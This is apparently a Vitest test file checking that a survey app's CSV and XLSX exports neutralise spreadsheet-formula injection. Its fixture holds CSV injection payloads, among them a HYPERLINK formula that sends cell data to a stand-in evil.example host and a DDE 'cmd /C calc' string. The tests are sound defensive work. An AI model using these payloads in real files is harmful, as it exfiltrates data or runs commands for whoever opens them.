/**
 * Hostile text in exports: names, tags and follow-up answers that begin like a spreadsheet formula are
 * written to CSV with a leading `'` (OWASP CSV injection), while numbers (a negative NPS) stay numbers;
 * XLSX keeps every text as a plain string cell, which no spreadsheet evaluates.
 */
import ExcelJS from 'exceljs';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/lib/export-table.js';
import { call, changeSettings, seedWorkspace, startApp, type Seeded, type TestApp } from '../helpers/app.js';
import { eventsFor } from '../helpers/events.js';
import { eventually, startReceiver, type Receiver } from '../helpers/receiver.js';

let t: TestApp;
let ws: Seeded;
let rx: Receiver;

const HOSTILE = {
  followUp: '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
  contact: '+62 812-3456 (Budi)',
  tags: ['-diskon', '@promo'],
  agent: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  division: '=1+1',
  channel: '-Web chat',
};

/** Reads CSV text as a spreadsheet program gets it: every cell as the raw text. */
async function readCsv(text: string): Promise<string[][]> {
  const book = new ExcelJS.Workbook();
  const sheet = await book.csv.read(Readable.from([text.replace(/^\uFEFF/, '')]), { map: (v: string) => v } as never);
  const rows: string[][] = [];
  sheet.eachRow((row) => rows.push((row.values as string[]).slice(1)));
  return rows;
}

const download = async (path: string) => fetch(`${t.url}${path}`, { headers: { authorization: `Bearer ${ws.tokens.admin}` } });

beforeAll(async () => {
  t = await startApp();
  ws = await seedWorkspace(t.db);
  rx = await startReceiver();
  const channel = (await call(t.url, 'POST', '/api/v1/channels', ws.tokens.admin, { name: HOSTILE.channel, type: 'web', config: { callbackUrl: rx.url } })).body.id;
  const agent = (await call(t.url, 'POST', '/api/v1/users', ws.tokens.admin, { name: HOSTILE.agent, email: 'formula@example.test', role: 'agent' })).body.id;
  const division = await call(t.url, 'POST', '/api/v1/divisions', ws.tokens.admin, { name: HOSTILE.division, agentIds: [agent], channelIds: [channel] });
  expect(division.status).toBe(201);
  await changeSettings(t.url, ws.tokens.admin, (s) => {
    s.csat.enabled = false;
    s.nps.enabled = true;
    s.nps.followUp.mode = 'single';
    s.nps.followUp.question = { id: 'Apa yang bisa kami perbaiki dari layanan kami?', en: 'What could we do better for you next time?' };
  });
  const e = eventsFor({ conversationId: 'hostile-1', channelId: channel, contactId: 'k-1', agentId: agent, divisionId: division.body.id, tags: HOSTILE.tags });
  const events = [e.opened, e.customer, e.agent, e.resolved()].map((ev) => ({ ...ev, conversation: { ...ev.conversation, contact: { ...ev.conversation.contact, name: HOSTILE.contact } } }));
  expect((await call(t.url, 'POST', '/api/v1/events', ws.tokens.admin, events)).status).toBe(200);
  const [delivery] = await rx.waitFor(1);
  const link = delivery!.json.data.url as string;
  const steps: Record<string, string>[] = [{ step: 'rating:nps', score: '2' }, { step: 'follow_up:nps', text: HOSTILE.followUp, action: 'send' }];
  for (const fields of steps) {
    expect((await fetch(link, { method: 'POST', body: new URLSearchParams(fields), redirect: 'manual' })).status).toBe(303);
  }
  await eventually(async () => (await t.db.selectFrom('responses').select('id').where('follow_up_text', 'is not', null).execute()).length === 1);
});
afterAll(async () => {
  await t.close();
  await rx.close();
});

describe('CSV exports', () => {
  it('prefixes every text cell that begins like a formula in the responses export', async () => {
    const rows = await readCsv(await (await download('/api/v1/responses?format=csv')).text());
    const [header, row] = rows as [string[], string[]];
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('follow_up_text')).toBe(`'${HOSTILE.followUp}`);
    expect(cell('contact_name')).toBe(`'${HOSTILE.contact}`);
    expect(cell('tags')).toBe(`'${HOSTILE.tags.join(', ')}`);
    expect(cell('agent')).toBe(`'${HOSTILE.agent}`);
    expect(cell('division')).toBe(`'${HOSTILE.division}`);
    expect(cell('channel')).toBe(`'${HOSTILE.channel}`);
    // Ordinary values are untouched.
    expect([cell('score'), cell('survey_type'), cell('contact_id')]).toEqual(['2', 'nps', 'k-1']);
    expect(rows).toHaveLength(2);
  });

  it('prefixes group names in the summary export and keeps a negative NPS a number', async () => {
    for (const groupBy of ['agent', 'division', 'tag', 'channel']) {
      const rows = await readCsv(await (await download(`/api/v1/reports/summary?groupBy=${groupBy}&format=csv`)).text());
      const [header, , group] = rows as [string[], string[], string[]];
      const expected = { agent: HOSTILE.agent, division: HOSTILE.division, tag: HOSTILE.tags[0], channel: HOSTILE.channel }[groupBy]!;
      expect(group[header.indexOf('group')]).toBe(`'${expected}`);
      expect(group[header.indexOf('nps_score')]).toBe('-100');
    }
  });

  it('neutralises tab, carriage return and NUL at the start, and leaves numbers, booleans and other text alone', () => {
    expect(['\t=1', '\r=1', '\0=1', '=1', '+1', '-1', '@A1'].map(csvCell)).toEqual(["'\t=1", "'\r=1", "'\0=1", "'=1", "'+1", "'-1", "'@A1"]);
    expect([-12.5, 0, true, false, null, 'Budi =1', ' =1', "'=1", ''].map(csvCell)).toEqual([-12.5, 0, true, false, '', 'Budi =1', ' =1', "'=1", '']);
  });
});

describe('XLSX exports', () => {
  it('keeps hostile text as plain string cells (no formula) with its exact value', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await (await download('/api/v1/responses?format=xlsx')).arrayBuffer()) as never);
    const sheet = book.getWorksheet('Responses')!;
    const header = (sheet.getRow(1).values as string[]).slice(1);
    const cell = (name: string) => sheet.getRow(2).getCell(header.indexOf(name) + 1);
    for (const [name, value] of [['follow_up_text', HOSTILE.followUp], ['agent', HOSTILE.agent], ['division', HOSTILE.division], ['contact_name', HOSTILE.contact]] as const) {
      expect(cell(name).type).toBe(ExcelJS.ValueType.String);
      expect(cell(name).value).toBe(value);
      expect(cell(name).formula).toBeUndefined();
    }
    expect(cell('score').value).toBe(2);

    const summary = new ExcelJS.Workbook();
    await summary.xlsx.load(Buffer.from(await (await download('/api/v1/reports/summary?groupBy=agent&format=xlsx')).arrayBuffer()) as never);
    const row = summary.getWorksheet('Summary')!.getRow(3);
    expect([row.getCell(1).type, row.getCell(1).value]).toEqual([ExcelJS.ValueType.String, HOSTILE.agent]);
  });
});
